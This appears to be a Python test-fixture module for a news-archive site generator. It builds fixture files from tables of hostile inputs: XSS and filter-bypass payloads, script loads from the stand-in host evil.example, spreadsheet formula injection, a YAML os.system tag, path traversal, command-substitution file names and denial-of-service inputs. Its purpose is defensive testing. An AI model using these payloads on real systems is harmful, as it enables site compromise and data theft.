"""Hostile content as tables: what someone might paste, write or drop into an archive, by what it tries.

RUN stands for the script that a payload wants to run; it sets the canary that the tests look for. Everything that a
payload wants to load is at EVIL.
"""

from __future__ import annotations

import json
from collections.abc import Iterator
from pathlib import Path

EVIL = "https://evil.example"
RUN = "window.canary=(window.canary||'')+location.pathname"

# Markup and the ways around it: each goes into every text field of an article, into a page of text and into a saved page.
MARKUP = (
    "<script>RUN</script>",
    "<ScRiPt>RUN</sCrIpT>",
    "<script/x>RUN</script >",
    "<script src=//evil.example/x.js></script>",
    "<scr<script>ipt>RUN</scr</script>ipt>",
    "<img src=x onerror=RUN>",
    "<img/src='x'/onerror=RUN>",
    "<img src=x onerror\t=\tRUN>",
    '"><img src=x onerror=RUN>',
    "'><img src=x onerror=RUN>",
    "`><img src=x onerror=RUN>",
    "--><img src=x onerror=RUN><!--",
    "]]><img src=x onerror=RUN>",
    "</title><script>RUN</script>",
    "</textarea><script>RUN</script>",
    "</style><script>RUN</script>",
    "</script><script>RUN</script>",
    "</ScRiPt ><script>RUN</script>",
    '"}]}</script><script>RUN</script>',
    "<!--<script>RUN</script>",
    "\\u003cscript\\u003eRUN\\u003c/script\\u003e",
    "&lt;script&gt;RUN&lt;/script&gt;",
    "&#60;script&#62;RUN&#60;/script&#62;",
    "&amp;lt;script&amp;gt;RUN",
    "＜script＞RUN＜/script＞",
    "<svg onload=RUN>",
    "<svg><script>RUN</script></svg>",
    "<svg><animate onbegin=RUN attributeName=x dur=1s>",
    "<svg><use href='data:image/svg+xml,<svg id=x onload=RUN>#x'/></svg>",
    "<math><mtext><style><img src=x onerror=RUN></style></mtext></math>",
    "<body onload=RUN>",
    "<input autofocus onfocus=RUN>",
    "<details open ontoggle=RUN>",
    "<video><source onerror=RUN></video>",
    "<iframe srcdoc='<script>parent.canary=1</script>'></iframe>",
    "<iframe src=javascript:RUN></iframe>",
    "<object data=//evil.example/x></object>",
    "<embed src=//evil.example/x>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<style>@import '//evil.example/x.css';</style>",
    "<style>*{background:url(//evil.example/x)}</style>",
    "<base href=//evil.example/>",
    "<meta http-equiv=refresh content='0;url=//evil.example/'>",
    "<form action=//evil.example/><button>x</button></form>",
    "<a href=javascript:RUN>x</a>",
    "<a style=position:fixed;inset:0 href=//evil.example/>x</a>",
    '" onmouseover="RUN" x="',
    "' onmouseover='RUN' x='",
    '" autofocus onfocus="RUN',
    "{{ 7 * 191 }}{% for x in y %}{{ x.__class__.__mro__ }}",
    "${RUN}#{RUN}<%= RUN %>",
    "javascript:RUN",
    "data:text/html,<script>RUN</script>",
    "\u202e<script>RUN</script>",
    "gpj.exe\u202e\u2066기사\u2069\u200f",
    "줄\u2028바꿈\u2029</script>",
    "제\x00어 문자는 여기 있다고 어느시가 밝혔으며 앞으로도 잘 살피겠다고 전했다 <b>\ufffe\uffff",
    "%0d%0aSet-Cookie: x=1%0d%0a\r\nX: y",
    "../../../../etc/passwd\\..\\..\\windows",
    "con nul aux com1",
)
# Cells that a spreadsheet would run.
FORMULAS = (
    '=HYPERLINK("https://evil.example","x")',
    "=cmd|' /C calc'!A0",
    "+1+1",
    "-2+3",
    "@SUM(1+1)",
    "\t=1+1",
    "\n=1+1",
    "＝1+1",
    "＋1+1",
    "－1+1",
    "＠SUM(1)",
    '=1+1"; "=2+2',
    'x","=1+1","',
)
# Markdown bodies: links, images, code, definitions, and what costs time.
MARKDOWN = (
    "[x](javascript:RUN)",
    "[x](JaVaScRiPt:RUN)",
    "[x](\tjavascript:RUN)",
    "[x](<java\tscript:RUN>)",
    "[x](java&Tab;script:RUN)",
    "[x](java&NewLine;script:RUN)",
    "[x](javascript&colon;RUN)",
    "[x](javascript&#58;RUN)",
    "[x](&#106;avascript:RUN)",
    "[x](&#x6A;avascript:RUN)",
    "[x](\\javascript:RUN)",
    "[x](javascript\\:RUN)",
    "[x](java%0ascript:RUN)",
    "[x](%6aavascript:RUN)",
    "[x](\x01javascript:RUN)",
    "[x](\u00a0javascript:RUN)",
    "[x](\u3000javascript:RUN)",
    "[x](javascript://evil.example/%0aRUN)",
    "[x](vbscript:msgbox(1))",
    "[x](VBSCRIPT:msgbox)",
    "[x](data:text/html;base64,PHNjcmlwdD4xPC9zY3JpcHQ+)",
    "[x](data:image/svg+xml,%3Csvg%20onload%3DRUN%3E)",
    "[x](file:///etc/passwd)",
    "[x](blob:https://evil.example/1)",
    "[x](feed:javascript:RUN)",
    "[x](view-source:javascript:RUN)",
    "[x](//evil.example/x)",
    "[x](\\\\evil.example\\x)",
    "[x](https://evil.example\" onmouseover=\"RUN)",
    "[x](https://evil.example/'onmouseover=RUN)",
    "[x](https://evil.example/ \"title\\\" onmouseover=RUN x=\\\"\")",
    "[x](https://evil.example/ '\"><script>RUN</script>')",
    "[<img src=x onerror=RUN>](https://evil.example/)",
    "[x][ref]\n\n[ref]: javascript:RUN",
    "[x][ref]\n\n[ref]: <javascript:RUN> '\"><script>RUN</script>'",
    "[x]\n\n[x]: data:text/html,<script>RUN</script>",
    "![x](https://evil.example/x.png)",
    "![x](javascript:RUN)",
    "![\" onerror=\"RUN](https://evil.example/x.png)",
    "![x](https://evil.example/x.png \"\\\" onerror=RUN\")",
    "![x](data:image/svg+xml,<svg onload=RUN>)",
    "[![x](https://evil.example/x.png)](javascript:RUN)",
    "<javascript:RUN>",
    "<JAVASCRIPT:RUN>",
    "<data:text/html,RUN>",
    "<https://evil.example/\"onmouseover=RUN>",
    "<x@evil.example?body=\"onmouseover=RUN>",
    "```\"><script>RUN</script>\ncode\n```",
    "```js onmouseover=RUN\n</code></pre><script>RUN</script>\n```",
    "~~~ x\" onmouseover=\"RUN\n~~~",
    "    <script>RUN</script>",
    "`<script>RUN</script>`",
    "`` ` <script>RUN</script> ``",
    "# <script>RUN</script>\n\n본문",
    "<div onclick=RUN>\n\n*x*\n\n</div>",
    "<!-- --><script>RUN</script>",
    "<![CDATA[<script>RUN</script>]]>",
    "<?php RUN ?><script>RUN</script>",
    "<!DOCTYPE x [<!ENTITY a \"b\">]>&a;",
    "| a | b |\n|---|---|\n| <script>RUN</script> | [x](javascript:RUN) |",
    "| a\" onmouseover=\"RUN |\n|:--x--|\n| b |",
    "> <script>RUN</script>\n> [x](javascript:RUN)",
    "- <script>RUN</script>\n  1. [x](javascript:RUN)",
    "**<script>RUN**</script>",
    "\\<script>RUN\\</script>",
    "&lt;script&gt;RUN&lt;/script&gt; &#x3C;script>",
    "Setext <script>RUN</script>\n===",
    "[x](../../../../../../etc/passwd)",
    "[x](?q=<script>RUN</script>#\"><script>)",
    "[" * 20_000,
    "![" * 20_000,
    "[x](" * 20_000,
    "(" * 20_000 + ")" * 20_000,
    "> " * 20_000 + "끝",
    "- " * 20_000 + "끝",
    "".join(" " * 2 * n + "- 가\n" for n in range(300)),
    "*가 " * 20_000,
    "_" * 20_000 + "가" + "_" * 20_000,
    "`" * 20_000 + "가",
    "<" * 20_000,
    "&" * 20_000 + ";",
    "\\" * 20_000,
    "[가]: /x\n" * 5_000 + "[가][가][가]",
    "|" * 20_000 + "\n" + "|-" * 20_000,
    "가" * 1_000_000,
    "가나 " * 30_000,
    "<b>" * 100_000,
    "https://evil.example/" * 20_000,
)  # fmt: skip
# Saved pages. What is readable in them may be published as text, never as markup.
PAGES = (
    "<script>RUN</script>",
    "<script type=application/ld+json>{\"@type\":\"NewsArticle\",\"headline\":\"</script><script>RUN</script>\"}</script>",
    "<script type=application/ld+json>{\"@type\":\"NewsArticle\",\"headline\":\"\\u003c/script\\u003e\\u003cscript\\u003eRUN\\u003c/script\\u003e\",\"author\":{\"name\":\"<img src=x onerror=RUN>\"}}</script>",
    "<script type=application/ld+json>{\"@type\":[{},[],null],\"@graph\":[{\"@type\":{}}]}</script>",
    "<script type=application/ld+json>{\"@type\":\"NewsArticle\",\"datePublished\":\"0001-01-01T00:00:00+14:00\",\"dateModified\":\"9999-12-31T23:59:59-14:00\"}</script>",
    "<p>어느시가 &#1;&#8;&#31;&#127;&#xFFFF;<b>밝혔다</b>.</p>",
    "<script type=application/ld+json>" + "[" * 5_000 + "</script>",
    "<script type=application/ld+json>{\"datePublished\":1e999,\"headline\":{\"a\":[]},\"author\":[[[]]]}</script>",
    "<meta property=og:title content='\"><script>RUN</script>'>",
    "<meta http-equiv=refresh content='0;url=javascript:RUN'>",
    "<meta http-equiv=Set-Cookie content=x=1><base href=https://evil.example/>",
    "<meta charset=utf-7>+ADw-script+AD4-RUN+ADw-/script+AD4-",
    "<link rel=stylesheet href=https://evil.example/x.css><link rel=import href=https://evil.example/>",
    "<style>p:before{content:url(https://evil.example/)}</style>",
    "<form action=https://evil.example/><input name=a autofocus onfocus=RUN></form>",
    "<iframe src=https://evil.example/></iframe><iframe srcdoc='<script>RUN</script>'></iframe>",
    "<object data=https://evil.example/></object><embed src=https://evil.example/>",
    "<svg onload=RUN><script>RUN</script><foreignObject><iframe src=https://evil.example/></svg>",
    "<noscript><p title='</noscript><img src=x onerror=RUN>'></noscript>",
    "<template><script>RUN</script></template><xmp><script>RUN</script></xmp>",
    "<plaintext><script>RUN</script>",
    "<p onclick=RUN style='background:url(https://evil.example/)'>본문</p>",
    "<a href=javascript:RUN>기사</a><a href=' \tjava\nscript:RUN'>기사</a>",
    "<img src=https://evil.example/x.png onerror=RUN alt='<script>RUN</script>'>",
    "<title><script>RUN</script></title><h1>&lt;script&gt;RUN&lt;/script&gt;</h1>",
    "<!--[if IE]><script>RUN</script><![endif]-->",
    "<div>" * 20_000 + "끝",
    "<table><tr><td>" * 3_000,
    "<b><i>" * 10_000,
    "<p " + "a=b " * 20_000 + ">끝</p>",
    "<!--" * 20_000,
    "&" * 50_000 + "&#xFFFFFFFF;&#0;&#xD800;",
    "<script>" * 5_000,
)  # fmt: skip
# Front matter that is refused, with the code that says why.
REFUSED = {
    "yaml-alias": ("title: x\ntags: [&a x, *a]", "E205"),
    "yaml-bomb": ("title: x\ntags: [&a [x,x], &b [*a,*a], &c [*b,*b], *c]", "E205"),
    "yaml-tag": ("title: x\ntags: [!!python/object/apply:os.system ['id']]", "E205"),
    "yaml-nesting": ("title: x\ntags: " + "[" * 2_000, "E205"),
    "yaml-braces": ("title: x\ntags: [" + "{a: " * 2_000, "E205"),
    "script-key": ("title: x\n<script>RUN</script>: x", "E206"),
    "class-key": ("title: x\n__class__: x", "E203"),
    "merge-key": ("title: x\n<<: *a", "E206"),
    "decided-key": ("title: x\nurl: /a/../../x/", "E210"),
    "twice": ("title: x\ntitle: y", "E204"),
    "id-that-climbs": ("title: x\nid: ../../x", "E205"),
    "id-with-markup": ("title: x\nid: <b>", "E205"),
    "alias-that-climbs": ("title: x\naliases: /../../x/", "E205"),
    "alias-of-another-host": ("title: x\naliases: https://evil.example/", "E205"),
    "alias-without-scheme": ("title: x\naliases: //evil.example/", "E205"),
    "alias-with-backslash": ("title: x\naliases: /a\\..\\b/", "E205"),
    "alias-with-a-second-word": ("title: x\naliases: /a/ https://evil.example/ 301", "E205"),
    "alias-that-is-home": ("title: x\naliases: /", "E205"),
    "alias-star": ("title: x\naliases: /*", "E205"),
    "status": ("title: x\nstatus: <script>", "E205"),
    "alias-device": ("title: x\naliases: /a/con/", "E503"),
}
# Names of input files that a file system takes.
NAMES = (
    "<script>RUN<⁄script>",
    "\" onmouseover=\"RUN",
    "' onmouseover='RUN",
    "javascript:RUN",
    "..hidden..",
    "a\nb",
    "a\tb",
    "-rf",
    "=1+1",
    "$(id)",
    "`id`",
    "%2e%2e%2f",
    "con",
    "nul",
    "aux.x",
    "a. ",
    "\u202egpj",
    "가" * 80,
    "index",
    "{{ 7*7 }}",
)  # fmt: skip

TEXT_PAGE = """{0}

  • 등록 2025.12.04 18:31:54

[{1}= {0} 기자] 어느시(시장 {0})는 4일 {0} 어느도서관을 열었다고 밝혔다. 도서관에는 책 3만 권이 있다.

▲ {0}

이날 개관식에는 시민 100여 명이 참석했다. {0}

[뉴스출처 : {0}]
"""
SAVED_PAGE = """<!doctype html><html><head><title>{0}</title><meta property="og:title" content="{0}">{0}</head><body>{0}
<h1>어느시, 새 도서관 문 열어</h1><p class=date>등록 2025.12.04 18:31</p>
<p>[어느신문= 홍길동 기자] 어느시는 4일 어느도서관을 열었다고 밝혔다. 도서관에는 책 3만 권이 있다. {0}</p>
<p>이날 개관식에는 시민 100여 명이 참석했다고 전했다. 어느시는 앞으로도 늘리겠다고 밝혔다.</p></body></html>"""


def armed(text: str) -> str:
    """The payload with its script."""
    return text.replace("RUN", RUN)


def front_matter(**values: object) -> str:
    """Values quoted so that YAML gives them back; what no YAML may hold goes in raw."""
    lines = [f"{key}: {json.dumps(value, ensure_ascii=False)}" for key, value in values.items()]
    return "\n".join(["---", *lines, "---", "", ""])


def in_every_field(text: str, number: int, body: str) -> str:
    """An article with the payload in each field that takes text."""
    shown = armed(text)
    many = [f"{shown} {n}" for n in range(2)] + [shown]
    return (
        front_matter(
            title=f"{shown} {number}", subtitle=many, outlet=shown, reporter=shown, credit=shown,
            category=shown, tags=many, organizations=many, captions=many, summary=shown,
            date=f"20{10 + number % 15}-03-{1 + number % 28:02}",
        )
        + armed(body)
        + f"\n\n어느시가 새 도서관을 열었다고 밝혔다. {number}\n"
    )  # fmt: skip


def site_files() -> Iterator[tuple[str, str]]:
    """(path, text) of every file of a site that holds all that a build takes."""
    for number, text in enumerate((*MARKUP, *FORMULAS)):
        yield f"articles/markup-{number}.md", in_every_field(text, number, text)
        yield f"seeds/text-{number}.txt", TEXT_PAGE.format(armed(text), "어느신문")
    for number, text in enumerate(MARKDOWN):
        head = front_matter(title=f"마크다운 {number}", outlet=f"매체 {number % 3}")
        yield f"articles/markdown-{number}.md", f"{head}{armed(text)}\n\n어느시가 밝혔다.\n"
    for number, text in enumerate((*PAGES, *MARKUP)):
        yield f"seeds/page-{number}.html", SAVED_PAGE.replace("{0}", armed(text))
    for number, text in enumerate(MARKUP):
        note = front_matter(title=armed(text), status="withdrawn", status_note=armed(text))
        yield f"articles/withdrawn-{number}.md", note
    for name in NAMES:
        yield f"seeds/{armed(name)}.txt", TEXT_PAGE.format("어느시, 새 다리 놓아", "어느신문")
    moved = front_matter(title="<b>옮긴 글", aliases=["/a/옛-주소/", "/a/a'b&c/", "/old/x=1;2/"])
    yield "articles/moved.md", moved + "본문을 옮겼다고 어느시가 밝혔다.\n"


def write_site(root: Path) -> None:
    """The site of all payloads below `root`; file names that this system refuses are left out."""
    for path, text in site_files():
        target = root / path
        target.parent.mkdir(parents=True, exist_ok=True)
        try:
            target.write_bytes(text.encode("utf-8", "surrogatepass"))
        except (OSError, ValueError):
            continue
    (root / "site.yaml").write_text("base_url: https://archive.example/\n", "utf-8")
